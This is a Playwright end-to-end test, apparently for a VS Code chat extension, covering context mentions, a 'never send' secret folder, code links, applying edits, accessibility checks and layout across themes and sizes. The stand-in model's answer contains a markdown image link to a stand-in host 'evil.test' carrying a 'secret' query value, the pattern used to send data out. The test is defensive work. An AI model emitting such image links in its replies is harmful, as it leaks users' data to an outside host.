/** A person chooses what goes with a question, asks about the codebase, and looks at the chat in every theme, narrow and enlarged. */

import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

import axe from 'axe-core';
import type { Frame } from 'playwright-core';

import { openFile } from '../scripts/realEditor.ts';
import { startStandIn, type Answerer } from '../servers/standIn.ts';
import { vllm } from '../servers/vllm.ts';
import { ask, openChat } from './chat.journey.ts';
import {
  clickLens,
  editorText,
  inEditor,
  untilStatusBar,
  type Journey,
  type JourneyEditor,
} from './journey.ts';

const answerText = [
  'Teas are found **by name** in `src/catalog.ts:13`, which `src/orders.ts` calls.',
  '',
  '1. the line names a tea;',
  '2. the catalog is searched;',
  '   - an unknown name is an error.',
  '',
  '| tea | cents |',
  '|---|--:|',
  '| Sencha | 890 |',
  '',
  '> Prices are per 100 grams.',
  '',
  '```ts path=src/catalog.ts',
  '/** By its name, in whatever letters. */',
  'export function findTea(name: string): Tea | undefined {',
  '  return catalog.find((tea) => tea.name.toLowerCase() === name.toLowerCase());',
  '}',
  '```',
  '',
  '```bash',
  'npm test',
  '```',
  '',
  'More in [the guide](https://example.com/guide). ![pixel](https://evil.test/p.png?secret=1)',
  '',
].join('\n');

const answer: Answerer = (asked) =>
  asked.task === 'chat' ? [{ text: 'The question is about names. ', reasoning: true }, answerText] : [];

/** What axe finds in the view; the page around it is VS Code's own. */
async function findings(frame: Frame): Promise<string[]> {
  await frame.evaluate(axe.source);
  return frame.evaluate<string[]>(`(async () => {
    const rules = { region: { enabled: false }, 'page-has-heading-one': { enabled: false } };
    const { violations } = await axe.run(document.body, { rules });
    return violations.map((each) => each.id + ' (' + each.impact + '): ' + each.nodes.slice(0, 3).map((node) => node.target.join(' ') + ' ' + node.failureSummary).join(', '));
  })()`);
}

/** What a person would have to scroll sideways for. */
async function overflowing(frame: Frame): Promise<string[]> {
  return frame.evaluate<string[]>(`[...document.querySelectorAll('body *')]
    .filter((each) => each.getBoundingClientRect().right > innerWidth + 1 && each.closest('pre, table, .only-heard, .chip') === null)
    .map((each) => each.tagName + '.' + each.className)`);
}

async function takeMention(frame: Frame, query: string, option: RegExp): Promise<void> {
  const box = frame.getByRole('textbox', { name: 'Ask Tandem' });
  await box.pressSequentially(query);
  await frame.getByRole('option', { name: option }).first().waitFor();
  await box.press('Enter');
}

async function chooseTheme({ page }: JourneyEditor, name: string): Promise<void> {
  await page.locator('.editor-instance .view-lines').first().click();
  await page.keyboard.press('Control+K');
  await page.keyboard.press('Control+T');
  const input = page.locator('.quick-input-widget input').first();
  await input.waitFor({ state: 'visible' });
  await input.fill(name);
  await page.locator('.quick-input-list .monaco-list-row', { hasText: name }).first().waitFor();
  await page.keyboard.press('Enter');
  await page.waitForTimeout(600);
}

async function dragSideBarTo({ page }: JourneyEditor, width: number): Promise<void> {
  const bar = await page.locator('.part.sidebar').boundingBox();
  if (bar === null) throw new Error('there is no side bar');
  const right = bar.x + bar.width;
  await page.mouse.move(right, 300);
  await page.mouse.down();
  await page.mouse.move(bar.x + width, 300, { steps: 5 });
  await page.mouse.up();
  await page.waitForTimeout(300);
}

const themes: readonly [string, string][] = [
  ['dark', 'Dark Modern'],
  ['contrast', 'Dark High Contrast'],
  ['contrast-light', 'Light High Contrast'],
];

const context: Journey = {
  title: 'chooses context, asks about the codebase, sees what would not fit, in every theme and size',
  run: async () => {
    const server = await startStandIn(vllm, { answer });
    try {
      await inEditor(
        {
          name: 'chat-context',
          settings: {
            'tandem.server.url': server.url,
            'tandem.cloud.provider': 'openai',
            'tandem.cloud.model': 'gpt-5',
            'tandem.privacy.neverSend': ['**/secret/**'],
          },
          prepare: async (folder) => {
            await mkdir(path.join(folder, 'data'), { recursive: true });
            await mkdir(path.join(folder, 'secret'), { recursive: true });
            await writeFile(path.join(folder, 'AGENTS.md'), 'Write short sentences.\n');
            await writeFile(path.join(folder, 'secret', 'plans.md'), 'A plan.\n');
            await writeFile(
              path.join(folder, 'data', 'large.txt'),
              'a line of a very long file\n'.repeat(12_000),
            );
          },
        },
        async (editor) => {
          const { page } = editor;
          await untilStatusBar(editor, /ready$/);
          await openFile(page, 'orders.ts');
          const frame = await openChat(editor);
          assert.deepEqual(await findings(frame), []);
          await frame.getByRole('textbox', { name: 'Ask Tandem' }).pressSequentially('@');
          await frame.getByRole('option').first().waitFor();
          await editor.screenshot('chat-offers');
          await page.keyboard.press('Escape');
          await frame.getByRole('textbox', { name: 'Ask Tandem' }).fill('');

          await takeMention(frame, '@findTea', /findTea/);
          await frame.locator('.chip', { hasText: 'findTea' }).waitFor();
          await takeMention(frame, '@plans', /plans\.md/);
          await frame.locator('.chip', { hasText: 'stays local' }).waitFor();
          await takeMention(frame, '@codebase', /Codebase/);
          await editor.screenshot('chat-chips');
          await ask(frame, 'Where are teas found by name?');
          await frame.locator('article').getByText('Teas are found').waitFor({ timeout: 20_000 });
          await frame.getByRole('button', { name: 'Send', exact: true }).waitFor({ timeout: 20_000 });
          await frame.locator('.question summary').click();
          await frame.locator('.question .chip', { hasText: 'catalog.ts' }).first().waitFor();
          const sent = JSON.stringify(server.requests.at(-1)?.body);
          assert.match(sent, /\[symbol\] findTea/);
          assert.match(sent, /\[codebase\] src\/catalog\.ts/);
          assert.match(sent, /Write short sentences/);
          await editor.screenshot('chat-codebase-light');
          assert.deepEqual(await findings(frame), []);

          await frame.getByRole('link', { name: 'src/catalog.ts:13' }).click();
          await page.locator('.tab.active', { hasText: 'catalog.ts' }).waitFor();
          await page
            .locator('.statusbar-item', { hasText: /Ln 13\b/ })
            .first()
            .waitFor();

          await frame.getByRole('button', { name: 'Apply to file' }).first().click();
          await page
            .locator('.codelens-decoration a', { hasText: /^Accept all$/ })
            .first()
            .waitFor();
          await editor.screenshot('chat-apply');
          await clickLens(editor, /^Accept all$/, async () => /toLowerCase/.test(await editorText(editor)));
          await frame.getByRole('button', { name: 'New file' }).first().click();
          await page.locator('.tab.active', { hasText: 'Untitled' }).waitFor();
          await page
            .locator('.editor-instance .view-lines', { hasText: 'whatever letters' })
            .first()
            .waitFor();

          await takeMention(frame, '@large', /large\.txt/);
          await frame.getByText(/Would not fit: /).waitFor();
          await editor.screenshot('chat-full');

          for (const [name, theme] of themes) {
            await chooseTheme(editor, theme);
            await editor.screenshot(`chat-${name}`);
            assert.deepEqual(await findings(frame), [], theme);
          }
          await dragSideBarTo(editor, 250);
          await editor.screenshot('chat-narrow');
          assert.deepEqual(await overflowing(frame), []);
          assert.deepEqual(await findings(frame), [], 'narrow');
          await page.setViewportSize({ width: 640, height: 400 });
          await page.waitForTimeout(400);
          await editor.screenshot('chat-zoom');
          assert.deepEqual(await overflowing(frame), []);
          assert.deepEqual(await findings(frame), [], 'enlarged');
          const transcript = await frame.locator('.transcript').boundingBox();
          assert.ok((transcript?.height ?? 0) > 120, 'nothing of the conversation is seen');
        },
      );
    } finally {
      await server.close();
    }
  },
};

export const journeys: readonly Journey[] = [context];
